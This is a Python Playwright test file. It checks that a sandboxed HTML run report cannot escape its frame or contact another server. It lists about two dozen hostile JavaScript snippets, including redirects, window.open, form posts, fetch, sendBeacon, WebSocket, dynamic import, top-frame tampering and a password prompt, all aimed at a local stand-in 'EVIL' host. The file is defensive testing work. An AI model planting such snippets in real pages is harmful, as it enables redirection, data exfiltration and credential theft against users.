"""A report that attacks: in a real browser it can open nothing, go nowhere, and ask for nothing."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from served_runs import served, small_runs


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """Another server's address, and what it was asked for."""
    asked: list[str] = []

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815 - the library's name

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the library's name
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
        Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def _clicked(attributes: str) -> str:
    return f"document.body.innerHTML = `<a {attributes}>x</a>`; document.querySelector('a').click()"


ATTACKS = {
    "goes": "location.href = EVIL + 'goes'",
    "replaces": "location.replace(EVIL + 'replaces')",
    "goes above": "top.location.href = EVIL + 'above'",
    "goes by a link": _clicked("href='${EVIL}link'"),
    "goes above by a link": _clicked("href='${EVIL}top' target='_top'"),
    "goes to the parent by a link": _clicked("href='${EVIL}parent' target='_parent'"),
    "pings": _clicked("href='#x' ping='${EVIL}ping'"),
    "refreshes": "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${EVIL}refresh'>`",
    "opens": "window.open(EVIL + 'opens')",
    "opens by a link": _clicked("href='${EVIL}blank' target='_blank'"),
    "opens one of ours": "window.open('/')",
    "sends a form": "document.body.innerHTML = `<form action='${EVIL}form'>`; document.forms[0].submit()",
    "sends a form above": "document.body.innerHTML = `<form action='${EVIL}form' target=_top method=post>`;"
    "document.forms[0].submit()",
    "fetches": "fetch(EVIL + 'fetch', {mode: 'no-cors'})",
    "fetches one of ours": "fetch('/api/runs').then(() => console.log('read'))",
    "beacons": "navigator.sendBeacon(EVIL + 'beacon', 'x')",
    "draws": "document.body.innerHTML = `<img src='${EVIL}image'>`",
    "frames": "document.body.innerHTML = `<iframe src='${EVIL}frame'></iframe><iframe src='/'></iframe>`",
    "frames and goes": "document.body.innerHTML = `<iframe srcdoc='<script>top.location = \"${EVIL}in\"<\\/script>'>`",
    "connects": "new WebSocket(EVIL.replace('http', 'ws') + 'socket')",
    "imports": "import(EVIL + 'import')",
    "works": "new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}worker')`])))",
    "reads the page around it": "console.log('read', top.document.title)",
    "writes the page around it": "top.document.body.innerHTML = ''",
    "keeps": "localStorage.setItem('x', 'x'); console.log('read', 'x')",
    "asks": "console.log('read', prompt('your password').length)",
}


def test_a_hostile_report_goes_nowhere(page: Any, tmp_path: Path, stranger: tuple[str, list[str]]) -> None:
    evil, asked = stranger
    runs = small_runs(tmp_path)
    said: list[str] = []
    page.on("console", lambda line: said.append(line.text))
    page.set_default_timeout(10_000)
    with served(runs) as port:
        home = f"http://127.0.0.1:{port}/"
        tries = [("runs/good/", name) for name in ATTACKS]
        tries += [
            ("runs/good/report.html", name) for name in ("goes", "goes by a link", "opens")
        ]  # not framed by itself
        for address, name in tries:
            (runs / "good" / "report.html").write_text(
                f"<!doctype html><html><body><script>const EVIL = '{evil}'; console.log('ran');\n"
                f"addEventListener('load', () => {{ {ATTACKS[name]} }});</script></body></html>"
            )
            said.clear()
            page.goto(home + address)
            page.wait_for_timeout(50)
            assert "ran" in said, name
            assert not [line for line in said if line.startswith("read")], name
            assert (page.url, len(page.context.pages), asked) == (home + address, 1, []), name
            assert page.locator("nav a").count() == 1, name


def test_a_report_still_works(page: Any, tmp_path: Path) -> None:
    """Its scripts run, and the files beside it are saved."""
    with served(small_runs(tmp_path)) as port:
        page.set_default_timeout(60_000)  # the first report waits for a process to start
        page.goto(f"http://127.0.0.1:{port}/runs/good/")
        frame = page.frame_locator("iframe")
        frame.locator("figure svg, figure canvas").first.wait_for()
        with page.expect_download() as saved:
            frame.get_by_role("link", name="scores.csv").first.click()
        assert saved.value.suggested_filename == "scores.csv"
        page.get_by_role("link", name="← all runs").click()
        assert page.url == f"http://127.0.0.1:{port}/"
